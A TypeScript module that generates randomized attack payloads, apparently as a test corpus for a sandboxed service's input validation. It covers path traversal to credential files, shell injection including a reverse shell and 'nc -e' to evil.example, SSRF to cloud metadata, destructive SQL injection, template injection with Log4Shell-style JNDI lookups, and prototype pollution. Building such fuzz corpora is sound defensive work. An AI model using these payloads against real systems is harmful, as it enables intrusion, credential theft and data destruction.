// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts, not templates.
import type { Random } from './random.ts';

export interface Attack {
  readonly source: string;
  readonly class: 'path' | 'shell' | 'ssrf' | 'sql' | 'template' | 'pollution';
  readonly payload: string;
}

type Make = (random: Random) => string;

// ---- paths: out of /workspace, in every spelling

const secrets = [
  'etc/passwd',
  'etc/shadow',
  'proc/self/environ',
  'root/.ssh/id_ed25519',
  'var/run/secrets/token',
  'home/ann/.aws/credentials',
  'windows/win.ini',
  'boot.ini',
  'etc/hosts',
  'srv/other/secret.txt',
];
const climbs = [
  '../',
  '..\\',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%2f',
  '..%5c',
  '%2E%2E%5C',
  '.%2e/',
  '%2e./',
  '%252e%252e%252f',
  '..%252f',
  '..%255c',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '%c0%ae%c0%ae%c0%af',
  '..%e0%80%af',
  '..%c1%9c',
  '\u2024\u2024/',
  '\uff0e\uff0e/',
  '\uff0e\uff0e\uff0f',
  '..\uff0f',
  '..\u2215',
  '..\u2044',
  '..\\/',
  '%00../',
  '..%00/',
];
const absolutes: readonly Make[] = [
  (r) => `/${r.pick(secrets)}`,
  (r) => `//${r.pick(secrets)}`,
  (r) => `\\\\${r.pick(['server', '10.0.0.5', '?\\C:', '.\\C:'])}\\${r.pick(secrets).replaceAll('/', '\\')}`,
  (r) => `${r.pick(['C', 'd', 'Z'])}:${r.pick(['\\', '/'])}${r.pick(secrets)}`,
  (r) => `%2f${r.pick(secrets).replaceAll('/', '%2f')}`,
  (r) => `%252f${r.pick(secrets).replaceAll('/', '%252f')}`,
  (r) => `/workspace-other/${r.pick(secrets)}`,
  (r) => `/workspace/../${r.pick(secrets)}`,
  (r) => `/workspace/./../${r.pick(secrets)}`,
  (r) => `/workspace//..//${r.pick(secrets)}`,
  (r) => `~/${r.pick(secrets)}`,
  (r) => `~root/${r.pick(secrets)}`,
  (r) => `file:///${r.pick(secrets)}`,
  (r) => `/WORKSPACE/../${r.pick(secrets)}`,
];

function climb(random: Random): string {
  const step = random.pick(climbs);
  const start = random.pick(['', '', '/workspace/', 'docs/', '/workspace/src/', './', 'a/b/']);
  const depth = random.int(start === '' || start === './' ? 1 : 4, 9);
  const target = random.pick(secrets);
  const separator = /%252f$|%255c$/i.test(step) ? '%252f' : /%2f$|%5c$/i.test(step) ? '%2f' : '/';
  const end = random.pick(['', '', '', '%00.png', '/.', '?', '#']);
  return `${start}${step.repeat(depth)}${random.chance(0.5) ? target : target.replaceAll('/', separator)}${end}`;
}

// ---- shell: metacharacters in what should be a name

const programs = [
  'id',
  'whoami',
  'cat /etc/passwd',
  'uname -a',
  'curl http://evil.example/x',
  'wget -qO- evil.example',
  'nc -e /bin/sh evil.example 4444',
  'rm -rf /',
  'sleep 5',
  'ping -c 3 evil.example',
  'env',
  'python3 -c "import os"',
  'touch /tmp/p',
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'powershell -enc SQBFAFgA',
  'type C:\\boot.ini',
];
const subjects = ['main', 'release-1.2', 'file.txt', '127.0.0.1', 'ann', 'pod-7', 'x', '', 'v1'];
const shells: readonly Make[] = [
  (r) =>
    `${r.pick(subjects)}${r.pick([';', '; ', ' ; ', '\n', '\r\n', '%0a', ';;'])}${r.pick(programs)}${r.pick(['', ' #', ';', ' ;#'])}`,
  (r) => `${r.pick(subjects)}${r.pick(['|', ' | ', '||', ' || ', '|& '])}${r.pick(programs)}`,
  (r) => `${r.pick(subjects)}${r.pick(['&', ' & ', '&&', ' && '])}${r.pick(programs)}`,
  (r) => `${r.pick(subjects)}$(${r.pick(programs)})`,
  (r) => `${r.pick(subjects)}\`${r.pick(programs)}\``,
  (r) =>
    `${r.pick(subjects)}${r.pick(['>', '>>', ' > ', ' 2>'])}${r.pick(['/tmp/p', '/workspace/.bashrc', '/etc/cron.d/x'])}`,
  (r) => `${r.pick(subjects)}<(${r.pick(programs)})`,
  (r) => `;${r.pick(programs).replaceAll(' ', r.pick(['$IFS', '${IFS}', '$IFS$9', '\t', '{,}']))}`,
  (r) => `$'\\x${r.hex(2)}\\x${r.hex(2)}';${r.pick(programs)}`,
  (r) => `{${r.pick(programs).replaceAll(' ', ',')}}`,
  (r) => `'${r.pick([';', '|', '&&'])}${r.pick(programs)}${r.pick([';', '|', '&&'])}'`,
  (r) => `"${r.pick([';', '|', '&&'])}${r.pick(programs)}${r.pick([';', '|', '&&'])}"`,
  (r) => `--${r.pick(['upload-pack', 'exec', 'output', 'receive-pack', 'config'])}=${r.pick(programs)}`,
  (r) => `-${r.pick(['o', 'c', 'e', 'O'])}${r.pick(['ProxyCommand=', ' ', ''])}${r.pick(programs)}`,
  (r) => `${r.pick(subjects)}\u0000;${r.pick(programs)}`,
  (r) =>
    `${r.pick(subjects)}${r.pick(['\u2028', '\u0085', '\u037e', '\uff1b', '\uff5c', '\uff06'])}${r.pick(programs)}`,
  (r) => `$\{x:=${r.pick(programs)}}`,
  (r) => `%COMSPEC% /c ${r.pick(programs)}`,
  (r) => `^&${r.pick(programs)}`,
];

// ---- ssrf: every non-public address, in every notation

function octets(random: Random): readonly number[] {
  return random.pick([
    () => [127, random.int(0, 255), random.int(0, 255), random.int(1, 254)],
    () => [10, random.int(0, 255), random.int(0, 255), random.int(1, 254)],
    () => [172, random.int(16, 31), random.int(0, 255), random.int(1, 254)],
    () => [192, 168, random.int(0, 255), random.int(1, 254)],
    () => [169, 254, 169, 254],
    () => [169, 254, random.int(0, 255), random.int(1, 254)],
    () => [100, random.int(64, 127), random.int(0, 255), random.int(1, 254)],
    () => [0, 0, 0, random.int(0, 5)],
    () => [198, random.int(18, 19), random.int(0, 255), random.int(1, 254)],
    () => [224, random.int(0, 255), random.int(0, 255), random.int(1, 254)],
    () => [255, 255, 255, 255],
  ])();
}

const number32 = (parts: readonly number[]): number => parts.reduce((sum, part) => sum * 256 + part, 0);
const hexGroups = ([a, b, c, d]: readonly number[]): string =>
  `${(a! * 256 + b!).toString(16)}:${(c! * 256 + d!).toString(16)}`;

const notations: readonly ((parts: readonly number[], random: Random) => string)[] = [
  (p) => p.join('.'),
  (p) => String(number32(p)),
  (p) => `0x${number32(p).toString(16)}`,
  (p) => `0${number32(p).toString(8)}`,
  (p) => p.map((part) => `0x${part.toString(16)}`).join('.'),
  (p) => p.map((part) => `0${part.toString(8)}`).join('.'),
  (p) => p.map((part) => `000${part.toString(8)}`).join('.'),
  (p) => `${p[0]}.${p[1]}.${p[2]! * 256 + p[3]!}`,
  (p) => `${p[0]}.${p[1]! * 65_536 + p[2]! * 256 + p[3]!}`,
  (p) => `${p[0]}.0x${p[1]!.toString(16)}.0${p[2]!.toString(8)}.${p[3]}`,
  (p) => `[::ffff:${p.join('.')}]`,
  (p) => `[::ffff:${hexGroups(p)}]`,
  (p) => `[64:ff9b::${hexGroups(p)}]`,
  (p) => `[2002:${hexGroups(p)}::]`,
  (p) => `[2001:0:${hexGroups([8, 8, 8, 8])}:0:0:${hexGroups(p.map((part) => part ^ 255))}]`,
  (p) => `[::${p.join('.')}]`,
  (p) => `[0:0:0:0:0:ffff:${hexGroups(p)}]`,
  (p) => `${p.join('.')}.`,
  (p) => p.join('\u3002'),
  (p) => p.join('.').replace(/[0-9]/g, (digit) => String.fromCodePoint(0xff10 + Number(digit))),
  (p) => p.join('.').replace(/[1-9]/g, (digit) => String.fromCodePoint(0x245f + Number(digit))),
  (p) => p.join('%2e'),
  (p) => p.join('.').replace('1', '%31'),
];

const names = [
  'localhost',
  'LOCALHOST',
  'localhost.',
  'localhost.localdomain',
  'foo.localhost',
  'ip6-localhost',
  'metadata.google.internal',
  'metadata',
  'kubernetes.default.svc',
  'redis',
  'db.internal',
  'printer.local',
  'router.lan',
  'intranet',
  'host.docker.internal',
  '[::1]',
  '[::]',
  '[0:0:0:0:0:0:0:1]',
  '[fe80::1]',
  '[fe80::1%25eth0]',
  '[fc00::1]',
  '[fd00:ec2::254]',
  '[ff02::1]',
  '\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3',
  'lo\u00adcalhost',
];
const tails = [
  '/',
  '/latest/meta-data/iam/security-credentials/',
  ':6379/',
  ':8080/admin',
  '/computeMetadata/v1/',
  '?x=1',
  '',
  '#a',
  ':80',
];

function url(random: Random): string {
  const host = random.chance(0.75) ? random.pick(notations)(octets(random), random) : random.pick(names);
  const scheme = random.pick([
    'http://',
    'http://',
    'https://',
    'HTTP://',
    'http:\\\\',
    'http:/',
    'http:///',
    '//',
    'gopher://',
    'dict://',
    'ftp://',
    'ldap://',
    'jar:http://',
    'http:\t//',
  ]);
  const user = random.pick([
    '',
    '',
    '',
    '',
    'example.com@',
    'https://example.com@'.slice(8),
    'user:pass@',
    'example.com%00@',
    'example.com:80@',
  ]);
  return `${scheme}${user}${host}${random.pick(tails)}`;
}

// ---- sql

const closers = ["'", '"', "')", "'))", '1', "1'", '-1', '`', "admin'", "%'", '\u02bc', "\\'"];
const ends = [' --', '-- -', ' #', '/*', ';--', "; -- '", '', ';%00'];
const blanks = [' ', '/**/', '%20', '\t', '\n', '+', '/*!*/', '\u00a0'];
const sqls: readonly Make[] = [
  (r) => {
    const n = r.int(1, 9);
    return `${r.pick(closers)} ${r.pick(['OR', 'or', '||', 'oR', 'AND'])} ${r.pick([`${n}=${n}`, `'a'='a`, `'${n}'='${n}'`, `${n} LIKE ${n}`, `${n}<${n + 1}`, 'true', `'x' IS NOT NULL`])}${r.pick(ends)}`;
  },
  (r) =>
    `${r.pick(closers)} UNION${r.pick(blanks)}${r.pick(['', 'ALL '])}SELECT${r.pick(blanks)}${Array.from({ length: r.int(1, 8) }, () => r.pick(['NULL', '1', 'version()', '@@version', 'user()', 'concat(0x7e,user())', 'table_name'])).join(',')}${r.pick(['', ' FROM information_schema.tables', ' FROM users', ' FROM dual'])}${r.pick(ends)}`,
  (r) =>
    `${r.pick(closers)}; ${r.pick(['DROP TABLE users', 'DELETE FROM orders', "UPDATE users SET role='admin'", "INSERT INTO admins VALUES ('x')", "EXEC xp_cmdshell('dir')", 'SHUTDOWN', 'TRUNCATE audit_log', "COPY users TO PROGRAM 'id'"])}${r.pick(ends)}`,
  (r) =>
    `${r.pick(closers)} ${r.pick(['AND', 'OR'])} ${r.pick([`SLEEP(${r.int(2, 9)})`, `pg_sleep(${r.int(2, 9)})`, `BENCHMARK(${r.int(1, 9)}000000,MD5(1))`, `(SELECT ${r.int(1, 99)} FROM (SELECT SLEEP(5))x)`, '1=(SELECT 1 FROM PG_SLEEP(5))'])}${r.pick(ends)}`,
  (r) => `${r.pick(closers)}; WAITFOR DELAY '0:0:${r.int(2, 9)}'${r.pick(ends)}`,
  (r) =>
    `${r.pick(closers)} AND ${r.pick(['ASCII', 'ORD'])}(SUBSTRING((SELECT password FROM users LIMIT 1),${r.int(1, 9)},1))>${r.int(40, 120)}${r.pick(ends)}`,
  (r) =>
    `${r.pick(closers)} AND EXTRACTVALUE(${r.int(1, 99)},CONCAT(0x7e,(SELECT ${r.pick(['user()', 'version()', 'database()'])})))${r.pick(ends)}`,
  (r) => `${r.pick(closers)} ORDER BY ${r.int(5, 60)}${r.pick(ends)}`,
  (r) => `${r.pick(['admin', 'root', 'ann'])}'${r.pick(['--', '#', '/*', ' -- -'])}`,
  (r) => `1;SELECT LOAD_FILE('/${r.pick(secrets)}')`,
  (r) => `0x${Buffer.from(`' OR ${r.int(1, 99)}=1`).toString('hex')}`,
  (r) => `${r.pick(closers)} INTO OUTFILE '/var/www/${r.hex(4)}.php'${r.pick(ends)}`,
];

// ---- templates and prototypes

const opens: readonly (readonly [string, string])[] = [
  ['{{', '}}'],
  ['${', '}'],
  ['<%=', '%>'],
  ['#{', '}'],
  ['*{', '}'],
  ['{{=', '}}'],
  ['@(', ')'],
  ['[[', ']]'],
  ['{%', '%}'],
  ['{{{', '}}}'],
];
const templates: readonly Make[] = [
  (r) => {
    const [open, close] = r.pick(opens);
    const blank = r.pick(['', ' ']);
    return `${open}${blank}${r.pick([`${r.int(2, 99)}*${r.int(2, 99)}`, `${r.int(100, 999)}+${r.int(100, 999)}`, `${r.int(2, 9)}*'${r.int(2, 9)}'`])}${blank}${close}`;
  },
  (r) =>
    `{{${r.pick(["''", '[]', '()', '"".x'])}.__class__.${r.pick(['__mro__[1]', '__base__', '__bases__[0]'])}.__subclasses__()[${r.int(30, 500)}]${r.pick(['', '.__init__.__globals__'])}}}`,
  (r) =>
    `{{${r.pick(['config', 'request.application', 'lipsum', 'cycler.__init__', 'self._TemplateReference__context', 'url_for', 'get_flashed_messages'])}.${r.pick(['items()', '__globals__', '__globals__.os', "__globals__['os']"])}${r.pick(['', `.popen('${r.pick(['id', 'whoami', 'cat /etc/passwd'])}').read()`])}}}`,
  (r) => `$\{T(java.lang.Runtime).getRuntime().exec('${r.pick(programs)}')}`,
  (r) => `<#assign ex="freemarker.template.utility.Execute"?new()>$\{ex("${r.pick(programs)}")}`,
  (r) =>
    `{{${r.pick(['constructor', 'toString.constructor', '[].constructor'])}.constructor('return ${r.pick(['process.env', 'global', 'this.process.mainModule.require("child_process").execSync("id")', '1'])}')()}}`,
  (r) =>
    `<%= ${r.pick(['system', '`id`; exec', 'IO.popen', 'File.read', 'global.process.mainModule.require'])}('${r.pick(['id', '/etc/passwd', 'child_process'])}') %>`,
  (r) =>
    `$\{${r.pick(['jndi:', '${lower:j}ndi:', '${::-j}${::-n}${::-d}${::-i}:', '${env:X:-j}ndi:'])}${r.pick(['ldap', 'rmi', 'dns'])}://evil.example/${r.hex(4)}}`,
  (r) =>
    `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('${r.pick(programs)}')`,
  (r) => `{php}${r.pick(['system', 'passthru', 'exec'])}('${r.pick(programs)}');{/php}`,
  (r) =>
    `{{ ''|attr('__class__')|attr('__mro__')|last|attr('__subclasses__')()|attr('pop')(${r.int(30, 400)}) }}`,
  (r) =>
    `*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('${r.pick(programs)}').getInputStream())}`,
];

const keys = [
  'isAdmin',
  'admin',
  'role',
  'polluted',
  'toString',
  'env',
  'shell',
  'NODE_OPTIONS',
  'argv0',
  'status',
  'exposedHeaders',
  'allowedOrigins',
  'headers',
  'path',
  'length',
  'then',
  'type',
  'debug',
  'outputFunctionName',
  'block',
  'sourceURL',
  'escapeFunction',
  'client',
  'allowHtml',
];
const values = ['true', '1', 'admin', '"x"', 'null', '--inspect', 'yes', '[]', '0', 'x;id'];
const pollutions: readonly Make[] = [
  (r) => `__proto__${r.pick(['.', '[', '['])}${r.pick(keys)}${r.pick(['', ']'])}=${r.pick(values)}`,
  (r) => `__proto__[${r.pick(keys)}]=${r.pick(values)}`,
  (r) =>
    `constructor${r.pick(['.', '[', "['", '["'])}prototype${r.pick(['.', ']', "']", '"]'])}${r.pick(keys)}=${r.pick(values)}`,
  (r) => `constructor[prototype][${r.pick(keys)}]=${r.pick(values)}`,
  (r) => `{"__proto__":{"${r.pick(keys)}":${JSON.stringify(r.pick(values))}}}`,
  (r) => `{"constructor":{"prototype":{"${r.pick(keys)}":${JSON.stringify(r.pick(values))}}}}`,
  (r) => `{"a":{"__proto__":{"${r.pick(keys)}":${JSON.stringify(r.pick(values))}}},"n":${r.int(1, 99)}}`,
  (r) => `{"\\u005f\\u005fproto__":{"${r.pick(keys)}":${JSON.stringify(r.pick(values))}}}`,
  (r) => `a.${r.pick(['__proto__', 'constructor.prototype'])}.${r.pick(keys)}`,
  (r) => `?__proto__%5B${r.pick(keys)}%5D=${encodeURIComponent(r.pick(values))}`,
  (r) => `__pro__proto__to__.${r.pick(keys)}=${r.pick(values)}`,
  (r) => `${r.pick(['items', 'user', 'options'])}[__proto__][${r.pick(keys)}]=${r.pick(values)}`,
  (r) => `Object.prototype.${r.pick(keys)}=${r.pick(values)}`,
];

const pickFrom =
  (makers: readonly Make[]): Make =>
  (random) =>
    random.pick(makers)(random);

const makers: Readonly<Record<Attack['class'], Make>> = {
  path: (random) => (random.chance(0.75) ? climb(random) : pickFrom(absolutes)(random)),
  shell: pickFrom(shells),
  ssrf: url,
  sql: pickFrom(sqls),
  template: pickFrom(templates),
  pollution: pickFrom(pollutions),
};

/** Attacks, so many of each class; no two alike. */
export function makeAttacks(random: Random, each: number): readonly Attack[] {
  return (Object.keys(makers) as Attack['class'][]).flatMap((kind) => {
    const payloads = new Set<string>();
    for (let tries = 0; payloads.size < each && tries < each * 200; tries += 1)
      payloads.add(makers[kind](random));
    return [...payloads].map((payload) => ({ source: 'own', class: kind, payload }));
  });
}
